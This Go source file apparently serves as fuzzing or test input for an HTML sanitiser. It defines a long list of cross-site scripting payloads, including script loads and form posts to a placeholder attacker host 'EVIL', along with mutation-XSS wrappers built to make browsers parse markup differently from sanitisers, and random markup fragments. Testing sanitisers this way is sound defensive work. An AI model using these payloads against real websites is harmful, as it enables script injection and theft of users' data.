package server

import "strings"

// acts are what an attacker wants a browser to do. EVIL is a host of the attacker's.
var acts = strings.Split(`<script>alert(1)</script>
<script src=//EVIL/leak.js></script>
<script type=module src=//EVIL/leak.js></script>
<img src=x:y onerror=alert(1)>
<img src="x:y"onerror="alert(1)"alt="
<img/src=x:y/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><style>@import "//EVIL/leak.css";</style></svg>
<svg><image href="//EVIL/leak.png"></svg>
<svg><a xlink:href="javascript:alert(1)" href="javascript:alert(1)"><text y=9>x</text></a></svg>
<math><mtext><img src=x:y onerror=alert(1)></mtext></math>
<math href="javascript:alert(1)" xlink:href="javascript:alert(1)">x</math>
<iframe src="//EVIL/leak.html"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="javascript:parent.alert(1)"></iframe>
<object data="//EVIL/leak.html"></object>
<embed src="//EVIL/leak.html">
<link rel=stylesheet href="//EVIL/leak.css">
<link rel=preload as=script href="//EVIL/leak.js">
<style>@import "//EVIL/leak.css"; body{background:url(//EVIL/leak.png)}</style>
<p style="background:url(//EVIL/leak.png);position:fixed;inset:0">x</p>
<table background="//EVIL/leak.png"><tr><td background="//EVIL/leak.png" bgcolor="url(//EVIL/leak.png)">x</table>
<body background="//EVIL/leak.png" onload=alert(1)>
<input type=image src="//EVIL/leak.png" onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<button autofocus onfocus=alert(1) formaction="javascript:alert(1)" popovertarget=index>x</button>
<form action="//EVIL/leak" method=post><button name=read value=1>x</button></form>
<form id=split action="//EVIL/leak"><input name=entry></form>
<video autoplay src="//EVIL/leak.mp4" onloadstart=alert(1)></video>
<video><source src="//EVIL/leak.mp4" onerror=alert(1)></video>
<audio autoplay preload=auto src="//EVIL/leak.mp3" oncanplay=alert(1)></audio>
<video autoplay muted><track default src="//EVIL/leak.vtt"></video>
<details open ontoggle=alert(1)><summary>x</summary></details>
<div popover id=index onbeforetoggle=alert(1)>x</div>
<dialog open>x</dialog>
<p contenteditable accesskey=x tabindex=0 draggable=true onfocus=alert(1) hidden inert>x</p>
<marquee onstart=alert(1)>x</marquee>
<meta http-equiv=refresh content="0;url=//EVIL/leak.html">
<base href="//EVIL/leak/"><a href=x>x</a>
<a href="javascript:alert(1)">x</a>
<a href=" &#1;java&Tab;script&colon;alert(1)" target=_top ping="//EVIL/leak">x</a>
<a href="data:text/html,<script>alert(1)</script>" target=_blank rel=opener>x</a>
<area href="vbscript:x" shape=default><map name=x><area href="javascript:alert(1)"></map>
<p class="row unread note hide" id=news data-story=1 data-count=all data-copy=x name=read>x</p>
<p id=main>x</p><p id=sources>x</p><a name=body>x</a><img name=head><form name=documentElement></form>
<time datetime="<img src=x:y onerror=alert(1)>">x</time>
<img srcset="//EVIL/leak.svg 1x, javascript:alert(1) 2x" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img src="/pic?a=1&quot; onerror=alert(1) x=&quot;" alt="'&quot;><script>alert(1)</script>" title="--><script>alert(1)</script>">
<q cite="javascript:alert(1)">x</q><del cite="//EVIL/leak">x</del>
<template shadowrootmode=open><slot></slot><script>alert(1)</script></template>
<x-y onclick=alert(1) is=x slot=y part=z>x</x-y>
`+"<img src=x:y\x0conerror=alert(1)>\n<im\x00g src=x:y onerror=alert(1)>\n<a href=\"java\x00script:alert(1)\">x</a>\n<scr\x00ipt>alert(1)</scr\x00ipt>\n<p title=\"\xff\"onclick=alert(1)\xc0\xbc>x</p>\n<a href=\"\u2028javascript:alert(1)\">x</a>\n<b title=`><img src=x:y onerror=alert(1)>`>x</b>", "\n")

// veils are what makes a browser read an act otherwise than a sanitiser does.
var veils = strings.Split(`%s
x%sy
<noscript>%s</noscript>
<noscript><p title="</noscript>%s">
<style>%s</style>
<style><a title="</style>%s">
<title>%s</title><title><a title="</title>%s">
<textarea>%s</textarea><textarea><a title="</textarea>%s">
<xmp><a title="</xmp>%s">
<plaintext>%s
<noembed><a title="</noembed>%s"></noembed>
<noframes><a title="</noframes>%s"></noframes>
<iframe><a title="</iframe>%s"></iframe>
<select><option>%s</select>
<select><template><style><!--</style><a rel="--></style></template></select>%s">
<template>%s</template>
<svg>%s</svg>
<svg><desc>%s</desc><title>%s</title><foreignObject>%s</foreignObject></svg>
<svg><style><a title="</style>%s">
<svg></p><style><a title="</style>%s">
<math>%s</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;%s">
<form><math><mtext></form><form><mglyph><style></math>%s
<math><annotation-xml encoding="text/html"><p><style><a title="</style>%s">
<table>%s</table>
<table><tr>%s<td>%s</table>
<table><caption>%s<table><td>%s
<a><table><a>%s</a></table></a>
<form><table></form><form>%s</table></form>
<b><p><a><b><p><a><button><button>%s
<ul><li><dl><dd></li><li>%s</dd></dl></ul></li><li>
</div></div></details></li></ol></section></main></body></html>%s
</p></td></tr></table></form></button></select>%s
<!--%s-->
<!--><p>%s--><!-- --!>%s-->
<!x>%s</x><?x >%s?></ x>%s
<![CDATA[%s]]>
<svg><![CDATA[><p title="]]>%s">
<p title="%s
<p title='%s' title="x
<p title=%s>
<p %s=%s>
<a href="%s">x</a>
<img alt="%s" src="/pic">
&lt;p&gt;%s&lt;/p&gt;
<h1><main><nav>%s</nav></main></h1>
<datalist><option value="%s">%s</datalist>
<ruby><rt>%s<rp>%s</ruby>
<pre>
%s</pre><listing>%s</listing>
<object><param name=src value="%s">%s</object>
<video>%s</video><audio><track label="%s"></audio>
<frameset><frame src=x>%s</frameset>
<image src=/pic alt="%s"><isindex prompt="%s">
<math alttext="%s"><mi>x`, "\n")

// shards are what random markup is made of, beside acts.
var shards = strings.Split(`<p>|</p>|<div>|</div>|<b>|</b>|<a href=/x>|</a>|<table>|</table>|<tr>|<td>|</td>|<caption>|<colgroup>|<li>|</li>|<ul>|</ul>|<dd>|<dl>|</dl>|<button>|</button>|<h1>|</h1>|<h2>|</h3>|<nav>|</nav>|<main>|<option>|<select>|</select>|<ruby>|<rt>|</ruby>|<form>|</form>|<svg>|</svg>|<math>|<mtext>|<mi>|</math>|<style>|</style>|<title>|</title>|<!--|-->|--!>|<![CDATA[|]]>|<?|<!|</|<|>|"|'|=|/| |&|&#x3c;|&lt|<noscript>|</noscript>|<template>|</template>|<textarea>|</textarea>|<details>|<summary>|<img src=/pic>|<video>|</video>|<a title="|<p id='|x|`+"\x00|\x0c|\xff|\u00a0", "|")
